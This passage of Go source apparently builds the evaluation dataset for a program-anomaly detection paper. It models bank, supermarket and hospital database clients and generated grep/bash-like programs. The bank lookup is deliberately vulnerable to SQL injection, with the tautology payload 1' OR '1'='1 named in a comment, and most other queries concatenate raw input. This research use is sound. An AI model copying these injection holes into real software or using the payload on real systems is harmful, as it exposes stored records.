// client). Its account lookup deliberately reproduces the paper's Figure 2
// vulnerability: the query is assembled with strcpy/strcat from raw user
// input instead of a prepared statement, so a tautology injection
// (1' OR '1'='1) retrieves every client record — the paper's attack 5.
//
// Operations (first input token):
//
//	1 <accNo>             vulnerable account lookup (Figure 2)
//	2 <accNo> <amount>    deposit (UPDATE) with confirmation
//	3 <accNo> <amount>    withdrawal with an overdraft branch
//	4 <from> <to> <amt>   transfer between accounts
//	5 <accNo>             print a statement (transaction loop)
//	6                     interest report over all accounts
//	anything else         help text
func AppB() *App {
	return &App{
		Name:      "appb",
		DBMS:      "MySQL",
		Prog:      buildAppB(),
		FreshDB:   appBDB,
		TestCases: appBTestCases(),
	}
}

func appBDB() *minidb.Database {
	db := minidb.New()
	db.MustExec("CREATE TABLE clients (id INT, name TEXT, balance INT)")
	db.MustExec("CREATE TABLE transactions (id INT, client_id INT, amount INT, kind TEXT)")
	for i := 1; i <= 25; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO clients VALUES (%d, 'client%02d', %d)",
			100+i, i, i*400))
		for j := 0; j < i%4; j++ {
			db.MustExec(fmt.Sprintf("INSERT INTO transactions VALUES (%d, %d, %d, '%s')",
				i*10+j, 100+i, (j+1)*50, []string{"dep", "wd"}[j%2]))
		}
	}
	return db
}

func buildAppB() *ir.Program {
	b := ir.NewBuilder("appb")

	// lookupAccount(conn, accNo): the Figure 2 vulnerable lookup — raw
	// string concatenation, fetch loop, per-field printing.
	{
		f := b.Func("lookupAccount", "conn", "accNo")
		e := f.Block()
		rowLoop := f.Block()
		rowBody := f.Block()
		fieldLoop := f.Block()
		fieldBody := f.Block()
		done := f.Block()

		e.CallTo("query", "strcpy", ir.S("SELECT * FROM clients WHERE id='"))
		e.CallTo("query", "strcat", ir.V("query"), ir.V("accNo"))
		e.CallTo("query", "strcat", ir.V("query"), ir.S("'"))
		e.CallTo("st", "mysql_query", ir.V("conn"), ir.V("query"))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.CallTo("nf", "mysql_num_fields", ir.V("result"))
		e.Goto(rowLoop)

		rowLoop.CallTo("row", "mysql_fetch_row", ir.V("result"))
		rowLoop.If(ir.V("row"), rowBody, done)
		rowBody.Assign("i", ir.I(0))
		rowBody.Goto(fieldLoop)
		fieldLoop.If(ir.Lt(ir.V("i"), ir.V("nf")), fieldBody, rowLoop)
		fieldBody.Call("printf", ir.S("%s "), ir.At(ir.V("row"), ir.V("i")))
		fieldBody.Assign("i", ir.Add(ir.V("i"), ir.I(1)))
		fieldBody.Goto(fieldLoop)

		done.Call("mysql_free_result", ir.V("result"))
		done.Call("printf", ir.S("\n"))
		done.Ret()
	}

	// deposit(conn, accNo, amount): UPDATE plus confirmation.
	{
		f := b.Func("deposit", "conn", "accNo", "amount")
		e := f.Block()
		ok := f.Block()
		fail := f.Block()
		fin := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("UPDATE clients SET balance = "), ir.V("amount"),
				ir.S(" WHERE id = "), ir.V("accNo")))
		e.If(ir.Eq(ir.V("st"), ir.I(0)), ok, fail)
		ok.Call("printf", ir.S("deposited %s to %s\n"), ir.V("amount"), ir.V("accNo"))
		ok.Goto(fin)
		fail.CallTo("msg", "mysql_error", ir.V("conn"))
		fail.Call("printf", ir.S("deposit failed: %s\n"), ir.V("msg"))
		fail.Goto(fin)
		fin.Ret()
	}

	// withdraw(conn, accNo, amount): balance check with an overdraft branch.
	{
		f := b.Func("withdraw", "conn", "accNo", "amount")
		e := f.Block()
		have := f.Block()
		overdraft := f.Block()
		apply := f.Block()
		fin := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("SELECT balance FROM clients WHERE id = "), ir.V("accNo")))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.CallTo("row", "mysql_fetch_row", ir.V("result"))
		e.If(ir.V("row"), have, fin)
		have.CallTo("bal", "atoi", ir.At(ir.V("row"), ir.I(0)))
		have.CallTo("amt", "atoi", ir.V("amount"))
		have.If(ir.Lt(ir.V("bal"), ir.V("amt")), overdraft, apply)
		overdraft.Call("printf", ir.S("insufficient funds: %d\n"), ir.V("bal"))
		overdraft.Goto(fin)
		apply.CallTo("st2", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("UPDATE clients SET balance = "), ir.Sub(ir.V("bal"), ir.V("amt")),
				ir.S(" WHERE id = "), ir.V("accNo")))
		apply.Call("printf", ir.S("withdrew %s\n"), ir.V("amount"))
		apply.Goto(fin)
		fin.Call("mysql_free_result", ir.V("result"))
		fin.Ret()
	}

	// transfer(conn, from, to, amt): two updates plus an audit transaction.
	{
		f := b.Func("transfer", "conn", "from", "to", "amt")
		e := f.Block()
		e.Invoke("withdraw", ir.V("conn"), ir.V("from"), ir.V("amt"))
		e.Invoke("deposit", ir.V("conn"), ir.V("to"), ir.V("amt"))
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("INSERT INTO transactions VALUES (999, "), ir.V("from"),
				ir.S(", "), ir.V("amt"), ir.S(", 'xfer')")))
		e.Call("printf", ir.S("transfer complete\n"))
		e.Ret()
	}

	// statement(conn, accNo): print the account's transactions.
	{
		f := b.Func("statement", "conn", "accNo")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		done := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("SELECT kind, amount FROM transactions WHERE client_id = "),
				ir.V("accNo"), ir.S(" ORDER BY id")))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.Call("printf", ir.S("statement for %s:\n"), ir.V("accNo"))
		e.Goto(loop)
		loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
		loop.If(ir.V("row"), body, done)
		body.Call("printf", ir.S("  %s %s\n"), ir.At(ir.V("row"), ir.I(0)), ir.At(ir.V("row"), ir.I(1)))
		body.Goto(loop)
		done.Call("mysql_free_result", ir.V("result"))
		done.Ret()
	}

	// interestReport(conn): aggregate over all accounts, branch on volume.
	{
		f := b.Func("interestReport", "conn")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		rich := f.Block()
		modest := f.Block()
		next := f.Block()
		done := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.S("SELECT id, balance FROM clients ORDER BY balance DESC LIMIT 12"))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.Goto(loop)
		loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
		loop.If(ir.V("row"), body, done)
		body.CallTo("bal", "atoi", ir.At(ir.V("row"), ir.I(1)))
		body.If(ir.Gt(ir.V("bal"), ir.I(7000)), rich, modest)
		// The rich branch prints a banner and then the account's data; the
		// modest branch prints only the banner. Attack 1 (§V-C) inserts a
		// copy of the rich branch's data print into the modest branch: the
		// call-name sequence then matches the rich path exactly, and only
		// the _Q block-id label tells the two apart.
		rich.Call("printf", ir.S("premium account:\n"))
		rich.Call("printf", ir.S("  %s holds %s\n"), ir.At(ir.V("row"), ir.I(0)), ir.At(ir.V("row"), ir.I(1)))
		rich.Goto(next)
		modest.Call("printf", ir.S("standard account\n"))
		modest.Goto(next)
		next.Goto(loop)
		done.Call("mysql_free_result", ir.V("result"))
		done.Ret()
	}

	// help().
	{
		f := b.Func("help")
		e := f.Block()
		e.Call("puts", ir.S("1 lookup | 2 deposit | 3 withdraw | 4 transfer | 5 statement | 6 interest"))
		e.Ret()
	}

	// main dispatcher.
	{
		m := b.Func("main")
		e := m.Block()
		op1 := m.Block()
		n1 := m.Block()
		op2 := m.Block()
		n2 := m.Block()
		op3 := m.Block()
		n3 := m.Block()
		op4 := m.Block()
		n4 := m.Block()
		op5 := m.Block()
		n5 := m.Block()
		op6 := m.Block()
		other := m.Block()
		done := m.Block()

		e.CallTo("conn", "mysql_real_connect")
		e.CallTo("opTok", "scanf", ir.S("%d"))
		e.CallTo("op", "atoi", ir.V("opTok"))
		e.If(ir.Eq(ir.V("op"), ir.I(1)), op1, n1)

		op1.CallTo("accNo", "scanf", ir.S("%s"))
		op1.Invoke("lookupAccount", ir.V("conn"), ir.V("accNo"))
		op1.Goto(done)

		n1.If(ir.Eq(ir.V("op"), ir.I(2)), op2, n2)
		op2.CallTo("accNo", "scanf", ir.S("%s"))
		op2.CallTo("amount", "scanf", ir.S("%s"))
		op2.Invoke("deposit", ir.V("conn"), ir.V("accNo"), ir.V("amount"))
		op2.Goto(done)

		n2.If(ir.Eq(ir.V("op"), ir.I(3)), op3, n3)
		op3.CallTo("accNo", "scanf", ir.S("%s"))
		op3.CallTo("amount", "scanf", ir.S("%s"))
		op3.Invoke("withdraw", ir.V("conn"), ir.V("accNo"), ir.V("amount"))
		op3.Goto(done)

		n3.If(ir.Eq(ir.V("op"), ir.I(4)), op4, n4)
		op4.CallTo("from", "scanf", ir.S("%s"))
		op4.CallTo("to", "scanf", ir.S("%s"))
		op4.CallTo("amt", "scanf", ir.S("%s"))
		op4.Invoke("transfer", ir.V("conn"), ir.V("from"), ir.V("to"), ir.V("amt"))
		op4.Goto(done)

		n4.If(ir.Eq(ir.V("op"), ir.I(5)), op5, n5)
		op5.CallTo("accNo", "scanf", ir.S("%s"))
		op5.Invoke("statement", ir.V("conn"), ir.V("accNo"))
		op5.Goto(done)

		n5.If(ir.Eq(ir.V("op"), ir.I(6)), op6, other)
		op6.Invoke("interestReport", ir.V("conn"))
		op6.Goto(done)

		other.Invoke("help")
		other.Goto(done)

		done.Call("mysql_close", ir.V("conn"))
		done.Ret()
	}

	return b.MustBuild()
}

func appBTestCases() []TestCase {
	var cases []TestCase
	add := func(name string, input ...string) {
		cases = append(cases, TestCase{Name: name, Input: input})
	}
	// 73 cases mirroring Table III's App_b count.
	for i := 1; i <= 20; i++ {
		add(fmt.Sprintf("lookup-%d", i), "1", fmt.Sprintf("%d", 100+i))
	}
	add("lookup-missing", "1", "999")
	for i := 1; i <= 12; i++ {
		add(fmt.Sprintf("deposit-%d", i), "2", fmt.Sprintf("%d", 100+i), fmt.Sprintf("%d", i*100))
	}
	for i := 1; i <= 12; i++ {
		add(fmt.Sprintf("withdraw-%d", i), "3", fmt.Sprintf("%d", 100+i), fmt.Sprintf("%d", i*150))
	}
	for i := 1; i <= 10; i++ {
		add(fmt.Sprintf("transfer-%d", i), "4",
			fmt.Sprintf("%d", 100+i), fmt.Sprintf("%d", 101+i), fmt.Sprintf("%d", i*30))
	}
	for i := 1; i <= 14; i++ {
		add(fmt.Sprintf("statement-%d", i), "5", fmt.Sprintf("%d", 100+i))
	}
	for i := 0; i < 3; i++ {
		add(fmt.Sprintf("interest-%d", i), "6")
	}
	add("help", "9")
	return cases
}
