package dataset

import (
	"fmt"

	"adprom/internal/ir"
	"adprom/internal/minidb"
)

// AppS is the CA-dataset's supermarket management system (paper Table III: a
// MySQL client). It is the largest of the three hand-written clients: price
// lookups, sales with stock updates, an inventory walk, a restock report
// written to a file, and a daily summary mixing TD-dependent and constant
// output.
//
// Operations (first input token):
//
//	1 <pid>          price lookup
//	2 <pid> <qty>    sell: stock check, UPDATE, receipt print
//	3                full inventory walk
//	4 <threshold>    restock report, written to restock.txt
//	5                daily sales summary (COUNT + join-ish loop)
//	6 <pid> <qty>    restock delivery (UPDATE)
//	anything else    help
func AppS() *App {
	return &App{
		Name:      "apps",
		DBMS:      "MySQL",
		Prog:      buildAppS(),
		FreshDB:   appSDB,
		TestCases: appSTestCases(),
	}
}

func appSDB() *minidb.Database {
	db := minidb.New()
	db.MustExec("CREATE TABLE products (id INT, name TEXT, price INT, stock INT)")
	db.MustExec("CREATE TABLE sales (id INT, product_id INT, qty INT)")
	names := []string{"milk", "bread", "eggs", "rice", "beans", "tea", "soap", "salt"}
	for i := 1; i <= 40; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO products VALUES (%d, '%s%d', %d, %d)",
			i, names[i%len(names)], i, 10+i*3, i*2%30))
		if i%3 == 0 {
			db.MustExec(fmt.Sprintf("INSERT INTO sales VALUES (%d, %d, %d)", i, i, i%5+1))
		}
	}
	return db
}

func buildAppS() *ir.Program {
	b := ir.NewBuilder("apps")

	// priceOf(conn, pid) returns the price string (tainted return).
	{
		f := b.Func("priceOf", "conn", "pid")
		e := f.Block()
		have := f.Block()
		miss := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("SELECT price FROM products WHERE id = "), ir.V("pid")))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.CallTo("row", "mysql_fetch_row", ir.V("result"))
		e.If(ir.V("row"), have, miss)
		have.CallTo("price", "strcpy", ir.At(ir.V("row"), ir.I(0)))
		have.Call("mysql_free_result", ir.V("result"))
		have.RetVal(ir.V("price"))
		miss.Call("mysql_free_result", ir.V("result"))
		miss.RetVal(ir.S(""))
	}

	// lookupPrice(conn, pid): user-facing wrapper around priceOf.
	{
		f := b.Func("lookupPrice", "conn", "pid")
		e := f.Block()
		have := f.Block()
		miss := f.Block()
		done := f.Block()
		e.InvokeTo("price", "priceOf", ir.V("conn"), ir.V("pid"))
		e.If(ir.V("price"), have, miss)
		have.Call("printf", ir.S("price of %s is %s\n"), ir.V("pid"), ir.V("price"))
		have.Goto(done)
		miss.Call("printf", ir.S("unknown product\n"))
		miss.Goto(done)
		done.Ret()
	}

	// sell(conn, pid, qty): stock check, update, receipt.
	{
		f := b.Func("sell", "conn", "pid", "qty")
		e := f.Block()
		have := f.Block()
		short := f.Block()
		apply := f.Block()
		fin := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("SELECT stock, price FROM products WHERE id = "), ir.V("pid")))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.CallTo("row", "mysql_fetch_row", ir.V("result"))
		e.If(ir.V("row"), have, fin)
		have.CallTo("stock", "atoi", ir.At(ir.V("row"), ir.I(0)))
		have.CallTo("want", "atoi", ir.V("qty"))
		have.If(ir.Lt(ir.V("stock"), ir.V("want")), short, apply)
		short.Call("printf", ir.S("only %d in stock\n"), ir.V("stock"))
		short.Goto(fin)
		apply.CallTo("st2", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("UPDATE products SET stock = "), ir.Sub(ir.V("stock"), ir.V("want")),
				ir.S(" WHERE id = "), ir.V("pid")))
		apply.Invoke("printReceipt", ir.V("pid"), ir.V("qty"), ir.At(ir.V("row"), ir.I(1)))
		apply.Goto(fin)
		fin.Call("mysql_free_result", ir.V("result"))
		fin.Ret()
	}

	// printReceipt(pid, qty, price): TD flows in via price.
	{
		f := b.Func("printReceipt", "pid", "qty", "price")
		e := f.Block()
		e.Call("puts", ir.S("---- receipt ----"))
		e.CallTo("q", "atoi", ir.V("qty"))
		e.CallTo("p", "atoi", ir.V("price"))
		e.Call("printf", ir.S("item %s x%s\n"), ir.V("pid"), ir.V("qty"))
		e.Call("printf", ir.S("total %d\n"), ir.Mul(ir.V("q"), ir.V("p")))
		e.Call("puts", ir.S("-----------------"))
		e.Ret()
	}

	// inventory(conn): full walk with a low-stock branch per row.
	{
		f := b.Func("inventory", "conn")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		low := f.Block()
		fine := f.Block()
		next := f.Block()
		done := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.S("SELECT id, name, stock FROM products ORDER BY id"))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.Goto(loop)
		loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
		loop.If(ir.V("row"), body, done)
		body.CallTo("stock", "atoi", ir.At(ir.V("row"), ir.I(2)))
		body.If(ir.Lt(ir.V("stock"), ir.I(5)), low, fine)
		low.Call("printf", ir.S("LOW %s (%s left)\n"), ir.At(ir.V("row"), ir.I(1)), ir.At(ir.V("row"), ir.I(2)))
		low.Goto(next)
		fine.Call("printf", ir.S("ok  %s\n"), ir.At(ir.V("row"), ir.I(1)))
		fine.Goto(next)
		next.Goto(loop)
		done.Call("mysql_free_result", ir.V("result"))
		done.Ret()
	}

	// restockReport(conn, threshold): writes the restock list to a file —
	// a legitimate fprintf of TD, exactly the kind of statement the DDG
	// labels and attack 1.3 tries to reuse.
	{
		f := b.Func("restockReport", "conn", "threshold")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		done := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("SELECT name, stock FROM products WHERE stock < "),
				ir.V("threshold"), ir.S(" ORDER BY stock")))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.CallTo("out", "fopen", ir.S("restock.txt"), ir.S("w"))
		e.Call("fputs", ir.S("restock list\n"), ir.V("out"))
		e.Goto(loop)
		loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
		loop.If(ir.V("row"), body, done)
		body.Call("fprintf", ir.V("out"), ir.S("%s: need %s more\n"),
			ir.At(ir.V("row"), ir.I(0)), ir.At(ir.V("row"), ir.I(1)))
		body.Goto(loop)
		done.Call("fclose", ir.V("out"))
		done.Call("printf", ir.S("report written\n"))
		done.Call("mysql_free_result", ir.V("result"))
		done.Ret()
	}

	// dailySummary(conn): counts plus a top-sales loop.
	{
		f := b.Func("dailySummary", "conn")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		done := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"), ir.S("SELECT COUNT(*) FROM sales"))
		e.CallTo("cres", "mysql_store_result", ir.V("conn"))
		e.CallTo("crow", "mysql_fetch_row", ir.V("cres"))
		e.Call("printf", ir.S("%s sales today\n"), ir.At(ir.V("crow"), ir.I(0)))
		e.Call("mysql_free_result", ir.V("cres"))
		e.CallTo("st2", "mysql_query", ir.V("conn"),
			ir.S("SELECT product_id, qty FROM sales ORDER BY qty DESC LIMIT 5"))
		e.CallTo("result", "mysql_store_result", ir.V("conn"))
		e.Goto(loop)
		loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
		loop.If(ir.V("row"), body, done)
		body.Call("printf", ir.S("  product %s sold %s\n"),
			ir.At(ir.V("row"), ir.I(0)), ir.At(ir.V("row"), ir.I(1)))
		body.Goto(loop)
		done.Call("mysql_free_result", ir.V("result"))
		done.Call("puts", ir.S("summary done"))
		done.Ret()
	}

	// restock(conn, pid, qty): delivery UPDATE.
	{
		f := b.Func("restock", "conn", "pid", "qty")
		e := f.Block()
		e.CallTo("st", "mysql_query", ir.V("conn"),
			ir.Cat(ir.S("UPDATE products SET stock = "), ir.V("qty"),
				ir.S(" WHERE id = "), ir.V("pid")))
		e.Call("printf", ir.S("restocked %s to %s\n"), ir.V("pid"), ir.V("qty"))
		e.Ret()
	}

	// help().
	{
		f := b.Func("help")
		e := f.Block()
		e.Call("puts", ir.S("1 price | 2 sell | 3 inventory | 4 restock-report | 5 summary | 6 restock"))
		e.Ret()
	}

	// main dispatcher.
	{
		m := b.Func("main")
		e := m.Block()
		op1 := m.Block()
		n1 := m.Block()
		op2 := m.Block()
		n2 := m.Block()
		op3 := m.Block()
		n3 := m.Block()
		op4 := m.Block()
		n4 := m.Block()
		op5 := m.Block()
		n5 := m.Block()
		op6 := m.Block()
		other := m.Block()
		done := m.Block()

		e.CallTo("conn", "mysql_real_connect")
		e.CallTo("opTok", "scanf", ir.S("%d"))
		e.CallTo("op", "atoi", ir.V("opTok"))
		e.If(ir.Eq(ir.V("op"), ir.I(1)), op1, n1)

		op1.CallTo("pid", "scanf", ir.S("%s"))
		op1.Invoke("lookupPrice", ir.V("conn"), ir.V("pid"))
		op1.Goto(done)

		n1.If(ir.Eq(ir.V("op"), ir.I(2)), op2, n2)
		op2.CallTo("pid", "scanf", ir.S("%s"))
		op2.CallTo("qty", "scanf", ir.S("%s"))
		op2.Invoke("sell", ir.V("conn"), ir.V("pid"), ir.V("qty"))
		op2.Goto(done)

		n2.If(ir.Eq(ir.V("op"), ir.I(3)), op3, n3)
		op3.Invoke("inventory", ir.V("conn"))
		op3.Goto(done)

		n3.If(ir.Eq(ir.V("op"), ir.I(4)), op4, n4)
		op4.CallTo("threshold", "scanf", ir.S("%s"))
		op4.Invoke("restockReport", ir.V("conn"), ir.V("threshold"))
		op4.Goto(done)

		n4.If(ir.Eq(ir.V("op"), ir.I(5)), op5, n5)
		op5.Invoke("dailySummary", ir.V("conn"))
		op5.Goto(done)

		n5.If(ir.Eq(ir.V("op"), ir.I(6)), op6, other)
		op6.CallTo("pid", "scanf", ir.S("%s"))
		op6.CallTo("qty", "scanf", ir.S("%s"))
		op6.Invoke("restock", ir.V("conn"), ir.V("pid"), ir.V("qty"))
		op6.Goto(done)

		other.Invoke("help")
		other.Goto(done)

		done.Call("mysql_close", ir.V("conn"))
		done.Ret()
	}

	return b.MustBuild()
}

func appSTestCases() []TestCase {
	var cases []TestCase
	add := func(name string, input ...string) {
		cases = append(cases, TestCase{Name: name, Input: input})
	}
	// 36 cases mirroring Table III's App_s count.
	for i := 1; i <= 10; i++ {
		add(fmt.Sprintf("price-%d", i), "1", fmt.Sprintf("%d", i*3))
	}
	for i := 1; i <= 8; i++ {
		add(fmt.Sprintf("sell-%d", i), "2", fmt.Sprintf("%d", i*4), fmt.Sprintf("%d", i%3+1))
	}
	add("inventory-a", "3")
	add("inventory-b", "3")
	for _, th := range []int{3, 5, 10, 20} {
		add(fmt.Sprintf("restock-report-%d", th), "4", fmt.Sprintf("%d", th))
	}
	for i := 0; i < 4; i++ {
		add(fmt.Sprintf("summary-%d", i), "5")
	}
	for i := 1; i <= 6; i++ {
		add(fmt.Sprintf("restock-%d", i), "6", fmt.Sprintf("%d", i*5), fmt.Sprintf("%d", 20+i))
	}
	add("help-a", "8")
	add("help-b", "0")
	return cases
}
