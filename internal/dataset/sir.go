package dataset

import (
	"fmt"

	"adprom/internal/minidb"
	"adprom/internal/progen"
)

// The SIR-style corpus (paper Table IV) replaces the real grep/gzip/sed/bash
// binaries with generated programs of comparable structure (see package
// progen): App1–App3 are mid-sized, App4 is bash-scale with more than 900
// call sites so the Profile Constructor's clustering path engages. Library
// vocabularies are flavoured after each original so the observation
// alphabets look like the real traces'.
//
// Test-case counts are scaled down from the paper's (809/214/370/1061) by
// roughly 4× so the full evaluation runs in CI time; the experiment harness
// reports both numbers.

var (
	grepVocab = []string{
		"regcomp", "regexec", "regfree", "memchr", "strchr", "strstr",
		"fgets_stdin", "printf", "puts", "strlen", "malloc", "free",
	}
	gzipVocab = []string{
		"inflate", "deflate", "crc32", "fill_window", "huft_build",
		"flush_block", "memcpy", "printf", "malloc", "free", "updcrc",
	}
	sedVocab = []string{
		"regcomp", "regexec", "memmove", "strchr", "strcpy", "strcat",
		"printf", "puts", "compile_command", "match_address", "free",
	}
	bashVocab = []string{
		"yyparse", "execute_command", "expand_word", "make_word", "dispose_word",
		"find_variable", "bind_variable", "alloc_word_desc", "savestring",
		"strcpy", "strcat", "strlen", "strcmp", "malloc", "free", "printf",
		"puts", "sprintf", "signal_setup", "job_control",
	}
)

// sirApp builds one SIR-style application.
func sirApp(name string, seed int64, functions, constructs int, vocab []string, cases int, recursion bool) *App {
	prog := progen.Generate(progen.Config{
		Name:              name,
		Seed:              seed,
		Functions:         functions,
		ConstructsPerFunc: constructs,
		Vocab:             vocab,
		Inputs:            3,
		AllowRecursion:    recursion,
	})
	app := &App{
		Name: name,
		DBMS: "none",
		Prog: prog,
		// Non-DB programs still get a world; a fresh empty database keeps
		// RunCase uniform.
		FreshDB: func() *minidb.Database { return minidb.New() },
	}
	for i := 0; i < cases; i++ {
		app.TestCases = append(app.TestCases, TestCase{
			Name: fmt.Sprintf("tc-%03d", i),
			Input: []string{
				fmt.Sprintf("%d", i),
				fmt.Sprintf("%d", (i*7+3)%101),
				fmt.Sprintf("%d", (i*13+5)%37),
			},
		})
	}
	return app
}

// App1 is the grep-like program.
func App1() *App { return sirApp("app1", 101, 14, 5, grepVocab, 200, false) }

// App2 is the gzip-like program.
func App2() *App { return sirApp("app2", 102, 10, 5, gzipVocab, 54, false) }

// App3 is the sed-like program.
func App3() *App { return sirApp("app3", 103, 18, 5, sedVocab, 92, false) }

// App4 is the bash-like program: large enough (>900 call sites) to trigger
// the PCA + K-means state reduction, like the paper's bash (1366 states).
func App4() *App { return sirApp("app4", 104, 150, 7, bashVocab, 265, true) }

// SIRApps returns the four SIR-style applications of Table IV.
func SIRApps() []*App { return []*App{App1(), App2(), App3(), App4()} }
