package dataset

import (
	"fmt"

	"adprom/internal/ir"
	"adprom/internal/minidb"
)

// AppH is the CA-dataset's mini hospital client (paper Table III: a
// PostgreSQL client). It is a hand-written IR program with the structure of
// a small real-world CRUD application: an operation dispatcher in main and
// one function per transaction, with result-set loops and both TD-dependent
// and constant output statements.
//
// Operations (first input token):
//
//	1 <pid>          look up one patient and print the record
//	2 <name> <age>   admit a patient (INSERT) and print a confirmation
//	3 <pid>          list a patient's appointments
//	4 <limit>        billing report: bills above limit, plus a COUNT summary
//	5 <pid>          discharge a patient (DELETE) and log to the audit file
//	anything else    print the menu
func AppH() *App {
	return &App{
		Name:      "apph",
		DBMS:      "PostgreSQL",
		Prog:      buildAppH(),
		FreshDB:   appHDB,
		TestCases: appHTestCases(),
	}
}

func appHDB() *minidb.Database {
	db := minidb.New()
	db.MustExec("CREATE TABLE patients (id INT, name TEXT, age INT, ward TEXT)")
	db.MustExec("CREATE TABLE appointments (id INT, patient_id INT, day TEXT)")
	db.MustExec("CREATE TABLE bills (id INT, patient_id INT, amount INT)")
	wards := []string{"east", "west", "icu", "maternity"}
	for i := 1; i <= 30; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO patients VALUES (%d, 'patient%02d', %d, '%s')",
			i, i, 20+i, wards[i%len(wards)]))
		db.MustExec(fmt.Sprintf("INSERT INTO appointments VALUES (%d, %d, 'day%d')", i, (i%10)+1, i%7))
		db.MustExec(fmt.Sprintf("INSERT INTO bills VALUES (%d, %d, %d)", i, (i%15)+1, i*120))
	}
	return db
}

func buildAppH() *ir.Program {
	b := ir.NewBuilder("apph")

	// lookupPatient(conn, pid): select one record, print every field.
	{
		f := b.Func("lookupPatient", "conn", "pid")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		found := f.Block()
		missing := f.Block()
		done := f.Block()
		e.CallTo("res", "PQexec", ir.V("conn"),
			ir.Cat(ir.S("SELECT * FROM patients WHERE id = "), ir.V("pid")))
		e.CallTo("rows", "PQntuples", ir.V("res"))
		e.If(ir.Gt(ir.V("rows"), ir.I(0)), found, missing)
		found.Call("printf", ir.S("patient record:\n"))
		found.Assign("r", ir.I(0))
		found.Goto(loop)
		loop.If(ir.Lt(ir.V("r"), ir.V("rows")), body, done)
		body.CallTo("name", "PQgetvalue", ir.V("res"), ir.V("r"), ir.I(1))
		body.CallTo("ward", "PQgetvalue", ir.V("res"), ir.V("r"), ir.I(3))
		body.Call("printf", ir.S("  %s in ward %s\n"), ir.V("name"), ir.V("ward"))
		body.Assign("r", ir.Add(ir.V("r"), ir.I(1)))
		body.Goto(loop)
		missing.Call("printf", ir.S("no such patient\n"))
		missing.Goto(done)
		done.Call("PQclear", ir.V("res"))
		done.Ret()
	}

	// admitPatient(conn, name, age): INSERT and confirm.
	{
		f := b.Func("admitPatient", "conn", "name", "age")
		e := f.Block()
		ok := f.Block()
		fail := f.Block()
		done := f.Block()
		e.CallTo("res", "PQexec", ir.V("conn"),
			ir.Cat(ir.S("INSERT INTO patients VALUES (99, '"), ir.V("name"),
				ir.S("', "), ir.V("age"), ir.S(", 'east')")))
		e.If(ir.V("res"), ok, fail)
		ok.Call("printf", ir.S("admitted %s\n"), ir.V("name"))
		ok.Goto(done)
		fail.Call("printf", ir.S("admission failed\n"))
		fail.Goto(done)
		done.Call("PQclear", ir.V("res"))
		done.Ret()
	}

	// listAppointments(conn, pid): loop over the patient's appointments.
	{
		f := b.Func("listAppointments", "conn", "pid")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		done := f.Block()
		e.CallTo("res", "PQexec", ir.V("conn"),
			ir.Cat(ir.S("SELECT day FROM appointments WHERE patient_id = "),
				ir.V("pid"), ir.S(" ORDER BY id")))
		e.CallTo("rows", "PQntuples", ir.V("res"))
		e.Call("printf", ir.S("appointments:\n"))
		e.Assign("r", ir.I(0))
		e.Goto(loop)
		loop.If(ir.Lt(ir.V("r"), ir.V("rows")), body, done)
		body.CallTo("day", "PQgetvalue", ir.V("res"), ir.V("r"), ir.I(0))
		body.Call("printf", ir.S("  visit on %s\n"), ir.V("day"))
		body.Assign("r", ir.Add(ir.V("r"), ir.I(1)))
		body.Goto(loop)
		done.Call("PQclear", ir.V("res"))
		done.Ret()
	}

	// billingReport(conn, limit): bills above limit plus a count summary.
	{
		f := b.Func("billingReport", "conn", "limit")
		e := f.Block()
		loop := f.Block()
		body := f.Block()
		summary := f.Block()
		big := f.Block()
		small := f.Block()
		done := f.Block()
		e.CallTo("res", "PQexec", ir.V("conn"),
			ir.Cat(ir.S("SELECT patient_id, amount FROM bills WHERE amount > "),
				ir.V("limit"), ir.S(" ORDER BY amount DESC")))
		e.CallTo("rows", "PQntuples", ir.V("res"))
		e.Assign("r", ir.I(0))
		e.Goto(loop)
		loop.If(ir.Lt(ir.V("r"), ir.V("rows")), body, summary)
		body.CallTo("pid", "PQgetvalue", ir.V("res"), ir.V("r"), ir.I(0))
		body.CallTo("amt", "PQgetvalue", ir.V("res"), ir.V("r"), ir.I(1))
		body.Call("printf", ir.S("bill: patient %s owes %s\n"), ir.V("pid"), ir.V("amt"))
		body.Assign("r", ir.Add(ir.V("r"), ir.I(1)))
		body.Goto(loop)
		summary.CallTo("cres", "PQexec", ir.V("conn"), ir.S("SELECT COUNT(*) FROM bills"))
		summary.CallTo("total", "PQgetvalue", ir.V("cres"), ir.I(0), ir.I(0))
